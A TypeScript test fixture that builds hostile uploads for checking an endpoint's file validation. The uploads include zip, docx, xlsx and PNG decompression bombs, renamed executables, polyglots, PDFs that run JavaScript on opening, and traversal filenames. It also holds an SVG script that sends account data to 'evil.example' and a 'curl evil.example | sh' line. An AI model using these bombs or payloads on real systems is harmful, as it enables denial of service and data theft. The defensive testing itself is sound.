// The bad-file corpus, built by code when a test runs (nothing hostile is kept in the repository):
// renamed programs, empty files, files one byte over a limit, decompression bombs (zip, docx, xlsx
// and PNG, honest and lying about their sizes), SVG and HTML in disguise, polyglots, PDFs with
// script, NUL bytes in text, and names that climb folders or carry control characters. Each entry
// says which refusal it must meet: a code, or "type" for the refusal of a kind the endpoint does
// not take (each endpoint words that its own way).
import zlib from "node:zlib";
import type { TErrorCode } from "../../server/errors/codes";
import { makePdf, makePng } from "./png";
import { makeElf, makeExe, makeZip } from "./sample-files";

export type TBadFile = {
  label: string;
  bytes: Buffer;
  filename: string;
  type: string;
  /** The filename parameter exactly as sent, when it is not `filename="<filename>"` (raw bytes, RFC 5987). */
  filenameParam?: string;
  expect: TErrorCode | "type";
};
/** What an endpoint takes, to carry the names under test (a good file with a bad name) and prove the endpoint works. */
export type TGoodFile = { bytes: Buffer; filename: string; type: string };

const MB = 1024 * 1024;

// --- Deflate streams of any length, built in a blink -----------------------------------------
// A block compressed on its own and flushed to a byte boundary refers to nothing before it, so
// copies of it in a row are a valid stream of the block repeated: 100 MB of output costs ~100 KB.

const syncFlushed = (data: Buffer) => zlib.deflateRawSync(data, { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
const FINAL_EMPTY_BLOCK = Buffer.from([0x03, 0x00]);

type TDeflated = { packed: Buffer; size: number; crc: number };

/** `head`, then `pattern` repeated to `size` bytes (in 1 MB blocks), then `tail`, as a raw deflate stream. */
export function deflateRepeated(size: number, pattern = "\0", head = "", tail = ""): TDeflated {
  const blocks = Math.max(0, Math.floor((size - head.length - tail.length) / MB));
  const block = blocks ? Buffer.alloc(MB, pattern) : Buffer.alloc(0);
  const packedBlock = syncFlushed(block);
  const parts = [syncFlushed(Buffer.from(head)), ...Array<Buffer>(blocks).fill(packedBlock), syncFlushed(Buffer.from(tail)), FINAL_EMPTY_BLOCK];
  let crc = zlib.crc32(head);
  for (let i = 0; i < blocks; i++) crc = zlib.crc32(block, crc);
  crc = zlib.crc32(tail, crc);
  return { packed: Buffer.concat(parts), size: Buffer.byteLength(head) + blocks * MB + Buffer.byteLength(tail), crc };
}

/** The same as a zlib stream (what PNG and PDF streams hold); the checksum is not needed by any reader under test. */
function zlibRepeated(size: number) {
  const { packed } = deflateRepeated(size);
  return Buffer.concat([Buffer.from([0x78, 0xda]), packed, Buffer.alloc(4)]);
}

// --- ZIP archives with deflated members, honest or lying -------------------------------------

type TMember = { name: string; data: TDeflated; declaredSize?: number; sharesWith?: number };

/** A ZIP of deflated members; `declaredSize` lies about a member, `sharesWith` points a member at another's bytes. */
export function zipOf(members: TMember[]) {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  for (const [i, m] of members.entries()) {
    const name = Buffer.from(m.name);
    const size = m.declaredSize ?? m.data.size;
    const header = (central: boolean) => {
      const h = Buffer.alloc(central ? 46 : 30);
      h.writeUInt32LE(central ? 0x02014b50 : 0x04034b50, 0);
      const at = central ? 2 : 0;
      if (central) h.writeUInt16LE(20, 4);
      h.writeUInt16LE(20, 4 + at);
      h.writeUInt16LE(8, 8 + at); // deflate
      h.writeUInt32LE(m.data.crc, 14 + at);
      h.writeUInt32LE(m.data.packed.length, 18 + at);
      h.writeUInt32LE(size, 22 + at);
      h.writeUInt16LE(name.length, 26 + at);
      return h;
    };
    offsets.push(m.sharesWith === undefined ? offset : offsets[m.sharesWith]);
    const central = header(true);
    central.writeUInt32LE(offsets[i], 42);
    centrals.push(central, name);
    if (m.sharesWith !== undefined) continue;
    locals.push(header(false), name, m.data.packed);
    offset += 30 + name.length + m.data.packed.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

const small = (text: string) => deflateRepeated(text.length, " ", text);
const CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const W_HEAD = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>';
const W_TAIL = "</w:body></w:document>";
const PARAGRAPH = "<w:p><w:r><w:t>zelin</w:t></w:r></w:p>";

/** A docx whose document.xml unpacks to `size` bytes of paragraphs; `declaredSize` makes it lie. */
export function makeDocxBomb(size: number, declaredSize?: number) {
  return zipOf([
    { name: "[Content_Types].xml", data: small(CONTENT_TYPES) },
    { name: "word/document.xml", data: deflateRepeated(size, PARAGRAPH, W_HEAD, W_TAIL), declaredSize },
  ]);
}

export function makeXlsxBomb(size: number) {
  return zipOf([
    { name: "[Content_Types].xml", data: small(CONTENT_TYPES) },
    {
      name: "xl/workbook.xml",
      data: small(
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ),
    },
    { name: "xl/worksheets/sheet1.xml", data: deflateRepeated(size, "<row/>", '<?xml version="1.0"?><worksheet><sheetData>', "</sheetData></worksheet>") },
  ]);
}

/** Members that all unpack the same bytes: small on disk, many times over when read. */
export function makeOverlappingZip() {
  const data = deflateRepeated(MB);
  return zipOf([{ name: "a.bin", data }, ...Array.from({ length: 3 }, (_, i) => ({ name: `b${i}.bin`, data, sharesWith: 0 }))]);
}

// --- Pictures ----------------------------------------------------------------------------------

function pngChunk(type: string, data: Buffer) {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([Buffer.from(type, "latin1"), data])));
  return Buffer.concat([length, Buffer.from(type, "latin1"), data, crc]);
}

/** A greyscale PNG header of any size over the given pixel data. */
function pngWith(width: number, height: number, idat: Buffer) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", idat),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A baseline greyscale JPEG, mid grey: every 8x8 block a zero DC difference and an end-of-block. */
export function makeJpeg(width: number, height: number) {
  const segment = (marker: number, body: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(body.length + 2, 2);
    return Buffer.concat([head, body]);
  };
  const frame = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  frame.writeUInt16BE(height, 1);
  frame.writeUInt16BE(width, 3);
  // One-code Huffman tables: DC category 0 is "0", AC end-of-block is "0": two zero bits a block.
  const table = (cls: number) => Buffer.from([cls, 1, ...Array(15).fill(0), 0]);
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, Buffer.from("JFIF\0\x01\x01\0\0\x01\0\x01\0\0", "latin1")),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc0, frame),
    segment(0xc4, table(0x00)),
    segment(0xc4, table(0x10)),
    segment(0xda, Buffer.from([1, 1, 0x00, 0, 63, 0])),
    Buffer.alloc(Math.ceil((blocks * 2) / 8)),
    Buffer.from([0xff, 0xd9]),
  ]);
}

// --- Documents ---------------------------------------------------------------------------------

const SVG =
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400" onload="alert(document.cookie)"><script>fetch("/api/v1/account").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script><rect width="400" height="400"/></svg>\n';
const HTML = "Meeting notes\n\n<script>alert(document.cookie)</script>\n";

/** A PDF whose opening runs a script, written plainly. */
function pdfWithScript() {
  return Buffer.from(
    "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >> >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
  );
}

/** The same script hidden in a compressed object stream, its names #-escaped. */
function pdfWithHiddenScript() {
  const objects = zlib.deflateSync(Buffer.from("3 0 << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`,
    ),
    objects,
    Buffer.from("\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  ]);
}

/** A Mach-O header (64-bit, little-endian) over random-looking bytes. */
const makeMachO = () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(2048, 0x5a)]);

/**
 * The corpus for one endpoint's file field: `good` is a file it takes (for the names under test),
 * `maxBytes` its limit. Bombs are built once and shared between calls.
 */
export function buildBadFiles(good: TGoodFile, maxBytes: number): TBadFile[] {
  const bombs = sharedBombs();
  const jpeg = makeJpeg(400, 400);
  const png = makePng(400, 400);
  const file = (label: string, bytes: Buffer, filename: string, type: string, expect: TBadFile["expect"]): TBadFile => ({
    label,
    bytes,
    filename,
    type,
    expect,
  });
  const named = (label: string, filename: string, expect: TBadFile["expect"], filenameParam?: string): TBadFile => ({
    label,
    bytes: good.bytes,
    filename,
    type: good.type,
    filenameParam,
    expect,
  });
  return [
    file("ELF program named .png", makeElf(), "holiday.png", "image/png", "file_empty_or_prohibited"),
    file("Windows program named .pdf", makeExe(), "invoice.pdf", "application/pdf", "file_empty_or_prohibited"),
    file("Mach-O program named .docx", makeMachO(), "report.docx", "application/octet-stream", "file_empty_or_prohibited"),
    file("shell script named .txt", Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"), "notes.txt", "text/plain", "file_empty_or_prohibited"),
    file("empty file", Buffer.alloc(0), good.filename, good.type, "file_empty_or_prohibited"),
    // One byte over the endpoint's limit: the file it takes, padded with zeros.
    file("one byte over the limit", Buffer.concat([good.bytes, Buffer.alloc(maxBytes + 1 - good.bytes.length)]), good.filename, good.type, "file_too_large"),
    file("zip bomb (200 MB, sizes declared)", bombs.zip, "archive.zip", "application/zip", "file_unpacks_too_large"),
    file(
      "docx bomb (100 KB to 100 MB)",
      bombs.docx,
      "report.docx",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      "file_unpacks_too_large",
    ),
    file("docx lying about its size", bombs.lyingDocx, "report.docx", "application/octet-stream", "file_unpacks_too_large"),
    file("xlsx bomb", bombs.xlsx, "qa.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "file_unpacks_too_large"),
    file("zip whose members share their bytes", bombs.overlapping, "bundle.docx", "application/octet-stream", "file_unpacks_too_large"),
    file("PNG declaring 100000 x 100000 pixels", bombs.pngHuge, "photo.png", "image/png", "file_unpacks_too_large"),
    file("PNG whose pixel data inflates to 200 MB", bombs.pngIdat, "photo.png", "image/png", "file_unpacks_too_large"),
    file("SVG with script named .txt", Buffer.from(SVG), "notes.txt", "text/plain", "type"),
    file("SVG with script named .png", Buffer.from(SVG), "photo.png", "image/png", "type"),
    file("SVG with script named .svg", Buffer.from(SVG), "logo.svg", "image/svg+xml", "type"),
    file("HTML script after a line of text, named .txt", Buffer.from(HTML), "notes.txt", "text/plain", "type"),
    file("text with NUL bytes", Buffer.from("hello\0world\0", "latin1"), "notes.txt", "text/plain", "type"),
    file("a PDF named .txt", makePdf(), "notes.txt", "text/plain", "type"),
    file("a PNG named .svg", png, "logo.svg", "image/svg+xml", "type"),
    file(
      "PNG with a zip appended",
      Buffer.concat([png, makeZip({ "evil.html": "<script>alert(1)</script>" })]),
      "photo.png",
      "image/png",
      "file_empty_or_prohibited",
    ),
    file(
      "JPEG with HTML appended",
      Buffer.concat([jpeg, Buffer.from("<html><script>alert(1)</script></html>")]),
      "photo.jpg",
      "image/jpeg",
      "file_empty_or_prohibited",
    ),
    file("JPEG with a zip appended", Buffer.concat([jpeg, makeZip({ "payload.exe": "MZ" })]), "photo.jpg", "image/jpeg", "file_empty_or_prohibited"),
    file("PDF that runs JavaScript when opened", pdfWithScript(), "certificate.pdf", "application/pdf", "file_empty_or_prohibited"),
    file("PDF hiding JavaScript in an object stream", pdfWithHiddenScript(), "certificate.pdf", "application/pdf", "file_empty_or_prohibited"),
    named("name climbing folders", "../../etc/passwd", "file_name_not_allowed"),
    named("Windows name climbing folders", "..\\..\\x.png", "file_name_not_allowed"),
    named("name of 300 characters", `${"a".repeat(296)}.png`, "file_name_not_allowed"),
    named("name reversed by a direction override", "photo\u202egnp.exe", "file_name_not_allowed"),
    named("name with NUL, encoded", "", "file_name_not_allowed", "filename*=UTF-8''a%00b.png"),
    named("name with a line break, encoded", "", "file_name_not_allowed", "filename*=UTF-8''a%0Ab.png"),
    named("name with a raw NUL byte", "", "upload_malformed", 'filename="a\0b.png"'),
    named("name with a raw line break", "", "upload_malformed", 'filename="a\r\nb.png"'),
  ];
}

let bombs: ReturnType<typeof makeBombs> | undefined;
const sharedBombs = () => (bombs ??= makeBombs());

function makeBombs() {
  return {
    zip: zipOf([{ name: "zeros.bin", data: deflateRepeated(200 * MB) }]),
    docx: makeDocxBomb(100 * MB),
    lyingDocx: makeDocxBomb(100 * MB, 2048),
    xlsx: makeXlsxBomb(200 * MB),
    overlapping: makeOverlappingZip(),
    pngHuge: pngWith(100_000, 100_000, zlib.deflateSync(Buffer.alloc(100_001 * 4))),
    pngIdat: pngWith(1000, 1000, zlibRepeated(200 * MB)),
  };
}
